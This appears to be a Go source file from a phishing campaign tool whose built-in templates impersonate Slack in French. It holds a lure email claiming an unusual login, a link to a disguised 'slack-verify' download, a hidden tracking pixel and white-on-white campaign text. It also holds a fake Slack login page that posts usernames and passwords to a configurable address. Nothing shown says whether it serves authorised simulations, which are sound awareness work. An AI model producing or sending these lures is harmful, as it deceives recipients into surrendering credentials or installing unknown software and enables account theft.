package mailing

import (
	"fmt"
	"os"
)

// DefaultTemplates returns the built-in Slack account-verification lure.
// Operators override any of the three sources from config.
func DefaultTemplates() Templates {
	return Templates{
		Subject: defaultSubject,
		HTML:    defaultLureHTML,
		Landing: defaultLandingHTML,
	}
}

// LoadTemplates starts from DefaultTemplates and overrides each part that
// is configured. Empty arguments keep the built-in source.
func LoadTemplates(subject, htmlPath, landingPath string) (Templates, error) {
	t := DefaultTemplates()
	if subject != "" {
		t.Subject = subject
	}
	if htmlPath != "" {
		data, err := os.ReadFile(htmlPath)
		if err != nil {
			return Templates{}, fmt.Errorf("reading lure template: %w", err)
		}
		t.HTML = string(data)
	}
	if landingPath != "" {
		data, err := os.ReadFile(landingPath)
		if err != nil {
			return Templates{}, fmt.Errorf("reading landing template: %w", err)
		}
		t.Landing = string(data)
	}
	return t, nil
}

const defaultSubject = `Slack - Action requise : Vérifiez votre compte`

const defaultLureHTML = `<!DOCTYPE html>
<html><body style="font-family:Lato,Arial,sans-serif;background:#f4f4f4;padding:24px;">
  <table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
    <table width="560" style="background:#fff;border-radius:8px;padding:32px;">
      <tr><td>
        <h2 style="color:#1d1c1d;">Vérification de votre compte Slack</h2>
        <p>Nous avons détecté une connexion inhabituelle à votre espace de travail.
        Confirmez votre identité pour conserver l'accès à vos conversations.</p>
        <p style="text-align:center;margin:32px 0;">
          <a href="{{ landing_url }}" style="background:#4a154b;color:#fff;padding:12px 24px;border-radius:4px;text-decoration:none;">Vérifier mon compte</a>
        </p>
        <p>Vous pouvez aussi installer l'outil de vérification :
          <a href="{{ download_url }}">slack-verify</a></p>
        {% if campaign_name != "" %}<p style="color:#fff;font-size:1px;">{{ campaign_name | escape }}</p>{% endif %}
      </td></tr>
    </table>
  </td></tr></table>
  <img src="{{ pixel_url }}" width="1" height="1" alt="" style="display:none;">
</body></html>`

const defaultLandingHTML = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Slack | Connexion</title></head>
<body style="font-family:Lato,Arial,sans-serif;text-align:center;padding:48px;">
  <h1>Connectez-vous à Slack</h1>
  <form method="POST" action="{{ login_url }}">
    <p><input type="text" name="username" placeholder="nom@entreprise.com" autocomplete="off"></p>
    <p><input type="password" name="password" placeholder="Mot de passe"></p>
    <p><button type="submit">Se connecter</button></p>
  </form>
</body></html>`
